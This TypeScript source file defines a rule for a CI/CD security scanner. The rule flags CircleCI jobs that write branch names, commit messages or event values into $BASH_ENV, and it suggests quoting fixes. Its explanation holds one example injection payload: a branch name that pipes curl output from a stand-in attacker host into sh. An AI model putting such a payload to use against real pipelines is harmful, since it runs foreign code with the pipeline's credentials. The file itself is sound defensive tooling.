import { mentionsInText } from '#pipeline/secret-variables.ts';
import type { Repository } from '#pipeline/repository.ts';
import type { ForeignValue, JobSurface } from '#pipeline/surface.ts';
import { isOutsider } from '#pipeline/trigger.ts';
import type { Rule } from '../../rule.ts';
import { nameJob, scriptsOf, surfaceJobs, type SurfaceScript } from '../../shared/surface-jobs.ts';
import { type Candidate, reportWorst } from '../../shared/surface-report.ts';
import { judgeValue, nameValue, nameWriter } from '../../shared/surface-values.ts';
import { findBashEnvWrites, type Write } from './find-writes.ts';

/** The message of the last commit, which whoever made the commit wrote. */
const COMMIT_MESSAGE =
  /\$\(\s*git\s+(?:log|show)\b[^)\n]{0,200}(?:%[sBbn]|--oneline|format=%a)|`git\s+(?:log|show)\b[^`\n]{0,200}%[sBb]/;

/** It comes from outside with what is merged: a merge names the branch of the fork. */
const COMMIT: ForeignValue = {
  name: 'git log',
  what: 'the message of the commit',
  writtenBy: 'contributor-with-approval',
};

function foreignIn({ open }: Write, surface: JobSurface): ForeignValue | undefined {
  if (COMMIT_MESSAGE.test(open)) return COMMIT;
  const mentions = mentionsInText(open).flatMap(({ name }) => surface.foreignVariables.get(name) ?? []);
  return mentions.find(({ writtenBy }) => isOutsider(writtenBy)) ?? mentions[0];
}

function toCandidates(at: SurfaceScript): Candidate[] {
  const { job, surface, script } = at;
  return findBashEnvWrites(script.text.value).flatMap((write) => {
    const value = foreignIn(write, surface);
    if (value === undefined) return [];
    const { exposure: _, ...verdict } = judgeValue(value, surface);
    return [
      {
        source: script.text.source,
        span: script.text.span(write.start, write.end),
        report: {
          ...verdict,
          message: `${nameWriter(value)} ${nameValue(value)}, and each later step of ${nameJob(job)} runs it as code out of $BASH_ENV`,
          key: `${job.id} ${value.name}`,
        },
      },
    ];
  });
}

function findInjections(repository: Repository): Candidate[] {
  return surfaceJobs(repository)
    .filter(({ job }) => job.pipeline.platform === 'circleci')
    .flatMap((job) => scriptsOf(job).flatMap(toCandidates));
}

export const rule: Rule = {
  id: 'circleci-bash-env-injection',
  title: 'Text of others is written into the file that starts every step',
  severity: 'high',
  confidence: 'high',
  persona: 'regular',
  platforms: ['circleci'],
  standards: { cicdSec: ['CICD-SEC-4'], cwe: ['CWE-78', 'CWE-94'], cis: ['2.3.1'] },
  description:
    'Looks for lines that write names of branches and tags, messages of commits and values of events into `$BASH_ENV`, where the shell replaces them before they are written. Everybody sees those that outsiders write.',
  why: 'CircleCI reads `$BASH_ENV` as a script at the beginning of every step. Quotes on the line that writes it are gone by then: a branch called `$(curl evil.example|sh)` is a command, in this step and in all that follow, with their credentials.',
  remedy:
    'Write the value so that a shell reads it as one word, `echo "export NAME=$(printf %q "$VALUE")" >> "$BASH_ENV"`, or put only the name there and let the step read it: `echo \'export NAME="$CIRCLE_BRANCH"\' >> "$BASH_ENV"`.',
  references: [
    'https://circleci.com/docs/guides/security/set-environment-variable/',
    'https://www.gnu.org/software/bash/manual/html_node/Bash-Startup-Files.html',
  ],
  aliases: [],

  repository(repository, context) {
    reportWorst(findInjections(repository), rule, context);
  },
};
